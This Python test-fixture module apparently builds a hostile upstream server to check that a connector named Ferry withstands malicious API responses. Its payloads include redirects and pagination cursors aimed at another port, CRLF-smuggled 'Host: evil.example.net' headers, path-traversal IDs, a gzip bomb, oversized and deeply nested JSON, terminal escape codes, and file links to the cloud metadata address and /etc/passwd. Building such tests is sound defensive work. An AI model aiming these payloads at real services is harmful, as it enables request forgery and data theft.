"""Sources that misbehave: a server between Ferry and the twin that passes everything on, but for what the attack is about.

Each attack is a function (source, asked) that gives (status, headers, body), or None: the twin answers. Its `connector`
is what reads from it. `source.elsewhere` is the port of somebody else, whom Ferry must not ask anything."""
import gzip
import json

from server import Server, pass_on


class Source(Server):
    def __init__(self, twin_port, behave, elsewhere):
        self.twin_port, self.behave, self.elsewhere = twin_port, behave, elsewhere
        super().__init__(self.answer)

    def answer(self, asked):
        if asked["method"] != "GET":
            return 200, {}, b"{}"
        return self.behave(self, asked) or self.twin(asked)

    def twin(self, asked):
        return pass_on(self.twin_port, asked)

    def expenses(self, count=3):
        """A page of expenses as the twin has them, cut short."""
        path = self.asked[-1]["path"].split("?")[0]
        return json.loads(self.twin({**self.asked[-1], "path": f"{path}?$skip=0&$take={count}"})[2])


def page(items, **more):
    return 200, {}, json.dumps({"items": items, "total": len(items), **more}).encode()


def attack(connector="plain", writes_xero=False):
    def mark(behave):
        behave.connector, behave.writes_xero = connector, writes_xero
        ATTACKS["source:" + behave.__name__.replace("_", "-")] = behave
        return behave
    return mark


ATTACKS = {}


def few(source, asked):
    """As the twin answers, but not more than 40 expenses."""
    return page(source.expenses(40)["items"]) if asked["path"].split("?")[0].endswith("/expenses") else None


@attack()
def redirects(source, asked):
    return 302, {"Location": f"http://127.0.0.1:{source.elsewhere}{asked['path']}"}, b""


@attack()
def redirects_for_good(source, asked):
    return 308, {"Location": f"//127.0.0.1:{source.elsewhere}/collect"}, b""


@attack("cursors")
def next_elsewhere(source, asked):
    if "/payments" in asked["path"]:
        return page([])
    return page(source.expenses()["items"], next="" if "after=" in asked["path"] else f"http://127.0.0.1:{source.elsewhere}/collect?x=1")


@attack("cursors")
def next_smuggles(source, asked):
    if "/payments" in asked["path"]:
        return page([])
    return page(source.expenses()["items"], next="" if "after=" in asked["path"] else "1 HTTP/1.1\r\nHost: evil.example.net\r\n\r\n&x=#../..")


@attack("cursors")
def same_page_again(source, asked):
    return page(source.expenses()["items"], next="c1")


@attack("cursors")
def climbing_key(source, asked):
    if "/payments" in asked["path"]:
        return page([])
    items = source.expenses()["items"]
    items[0]["id"] = ".."
    return page(items)


@attack("cursors")
def smuggling_key(source, asked):
    if "/payments" in asked["path"]:
        return page([])
    items = source.expenses()["items"]
    items[0]["id"] = "a/../../keys?all=1#\r\nHost: evil.example.net"
    return page(items)


@attack()
def huge_answer(source, asked):
    return 200, {}, b'{"items": [' + b" " * (40 << 20) + b"]}"


@attack()
def bomb(source, asked):
    return 200, {"Content-Encoding": "gzip"}, gzip.compress(b'{"items": [' + b" " * (200 << 20) + b"]}", 9)


@attack()
def deep_answer(source, asked):
    return 200, {}, b'{"items":' + b"[" * 100000 + b"]" * 100000 + b"}"


@attack()
def web_page(source, asked):
    return 200, {"Content-Type": "text/html"}, b"<html>\x1b[2JLog in first</html>"


@attack()
def other_shape(source, asked):
    return 200, {}, b'{"items": {"a": 1, "b": [null, "\\u0000", 1e400]}, "total": "many"}'


@attack()
def many_headers(source, asked):
    return 200, {f"X-{i}": "a" * 7000 for i in range(40)}, b"{}"


@attack()
def twins(source, asked):
    items = source.expenses()["items"]
    return page([*items, {**items[0], "note": "another with the same key"}])


@attack()
def huge_record(source, asked):
    items = source.expenses()["items"]
    items[0]["note"] = "a" * (2 << 20)
    return page(items)


@attack()
def huge_number(source, asked):
    items = source.expenses()["items"]
    items[0]["reconciliation"]["totalAmount"] = 1234567
    text = json.dumps({"items": items, "total": len(items)})
    return 200, {}, text.replace("1234567", "1" + "0" * 400).encode()


@attack()
def control_characters(source, asked):
    items = source.expenses()["items"]
    for item in items:
        item["status"], item["note"] = "\x1b]0;pwned\x07\u202egnp.exe", "\x1b[2J\x00\u009b31m"
        item["createdAt"] = "\x1b[31myesterday"
    return page(items)


def with_files_at(address):
    """Expenses whose papers lie at this address; "{}": the port of somebody else."""
    def behave(source, asked):
        if not asked["path"].split("?")[0].endswith("/expenses"):
            return None
        items = [item for item in source.expenses(60)["items"] if item.get("document", {}).get("files") and item.get("reviewedAt")][:4]
        for item in items:
            item["document"]["files"] = [{**file, "url": address.format(source.elsewhere)} for file in item["document"]["files"][:1]]
        return page(items)
    return behave


for name, address in {"files-elsewhere": "http://127.0.0.1:{}/collect.pdf", "files-inside": "http://169.254.169.254/latest/meta-data",
                      "files-local": "file:///etc/passwd", "files-user": "https://api.payhawk.com:x@127.0.0.1:{}/collect.pdf",
                      "files-plain": "http://files.payhawk.com/receipt.pdf"}.items():
    behave = with_files_at(address)
    behave.__name__ = name
    attack("payhawk", writes_xero=True)(behave)
